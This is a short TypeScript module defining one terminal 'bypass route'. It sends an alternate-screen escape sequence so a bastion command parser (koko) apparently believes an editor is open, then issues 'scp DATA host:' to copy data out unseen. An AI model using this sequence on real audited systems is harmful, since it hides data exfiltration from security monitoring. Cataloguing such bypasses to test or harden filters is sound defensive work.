import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'behind a screen of its own',
  source: 'koko parser.go: believes in an editor until 1049l',
  keys: ["printf '\\033[?1049h\\033[2;1H'\r", 'scp DATA host:\r'],
};
